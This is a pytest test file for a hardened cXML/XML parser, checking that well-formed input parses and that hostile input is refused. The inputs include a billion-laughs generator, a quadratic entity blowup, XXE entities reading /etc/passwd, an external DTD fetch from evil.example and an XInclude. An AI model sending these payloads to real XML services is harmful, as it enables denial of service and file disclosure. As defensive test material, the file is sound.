"""Tests of the hardened XML parser (protocol/xml.py); pytest, no Odoo.

Run from the addon directory: ``python3 -m pytest protocol/tests -q``.
"""

import time

import pytest
from protocol.errors import (
    HostileDocument,
    MalformedDocument,
    PayloadTooLarge,
    PunchoutProtocolError,
)
from protocol.xml import parse_xml

CXML_DOCTYPE = b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">'


def _billion_laughs(levels=9, encoding="utf-8"):
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, levels + 1)
    ]
    doc = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
        f"<!DOCTYPE lolz [{''.join(entities)}]><lolz>&lol{levels};</lolz>"
    )
    return doc.encode(encoding)


def test_plain_document_is_parsed():
    root = parse_xml(b'<cXML payloadID="1"><Header><From>x</From></Header></cXML>')
    assert root.tag == "cXML"
    assert root.get("payloadID") == "1"
    assert root.findtext("Header/From") == "x"


def test_text_input_is_encoded_as_utf8():
    assert parse_xml("<a>Größe €</a>").text == "Größe €"


def test_external_doctype_without_subset_is_accepted_and_not_loaded():
    root = parse_xml(CXML_DOCTYPE + b"<cXML><Request/></cXML>")
    assert root.tag == "cXML"
    assert root[0].tag == "Request"
    assert root.getroottree().docinfo.system_url.endswith("/1.2.063/cXML.dtd")


def test_comments_and_processing_instructions_are_dropped():
    root = parse_xml(b"<a><!-- note --><?pi data?><b/></a>")
    assert [child.tag for child in root] == ["b"]


def test_internal_entity_is_refused():
    with pytest.raises(HostileDocument):
        parse_xml(b'<!DOCTYPE a [<!ENTITY e "hi">]><a>&e;</a>')


def test_internal_subset_without_entities_is_refused():
    with pytest.raises(HostileDocument):
        parse_xml(b"<!DOCTYPE a [<!ELEMENT a (#PCDATA)>]><a>x</a>")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_billion_laughs_is_refused_fast(encoding):
    start = time.monotonic()
    with pytest.raises((HostileDocument, MalformedDocument)) as info:
        parse_xml(_billion_laughs(encoding=encoding))
    assert info.value.status == 400
    assert time.monotonic() - start < 2


def test_quadratic_blowup_is_refused():
    doc = '<!DOCTYPE a [<!ENTITY x "' + "x" * 50000 + '">]><a>' + "&x;" * 50000 + "</a>"
    with pytest.raises(HostileDocument):
        parse_xml(doc.encode())


def test_external_entity_is_refused_and_never_read():
    doc = b'<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>'
    with pytest.raises(HostileDocument) as info:
        parse_xml(doc)
    assert "root:" not in info.value.message


def test_external_entity_in_utf16_is_refused():
    doc = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>'
    ).encode("utf-16")
    with pytest.raises(HostileDocument):
        parse_xml(doc)


def test_parameter_entity_with_external_dtd_is_refused():
    doc = b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>'
    with pytest.raises(HostileDocument):
        parse_xml(doc)


def test_entity_reference_declared_in_external_dtd_is_refused():
    doc = b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a>&xxe;</a>'
    with pytest.raises(HostileDocument):
        parse_xml(doc)


def test_xinclude_is_refused():
    doc = (
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></a>'
    )
    with pytest.raises(HostileDocument):
        parse_xml(doc)


def test_size_limit():
    doc = b"<a>" + b"x" * 100 + b"</a>"
    assert parse_xml(doc, max_bytes=len(doc)).text == "x" * 100
    with pytest.raises(PayloadTooLarge) as info:
        parse_xml(doc, max_bytes=len(doc) - 1)
    assert info.value.status == 413
    assert str(len(doc)) in info.value.message


@pytest.mark.parametrize(
    "data",
    [b"<a><b></a>", b"<a>", b"not xml", b"<a>&nope;</a>", b"<a></a><b></b>"],
)
def test_malformed_documents(data):
    with pytest.raises(MalformedDocument) as info:
        parse_xml(data)
    assert info.value.status == 400
    assert "well-formed" in info.value.message


@pytest.mark.parametrize("data", [b"", b"   \n", None])
def test_empty_body(data):
    with pytest.raises(MalformedDocument) as info:
        parse_xml(data)
    assert "empty" in info.value.message


def test_errors_share_the_base_class():
    for error in (HostileDocument, MalformedDocument, PayloadTooLarge):
        assert issubclass(error, PunchoutProtocolError)
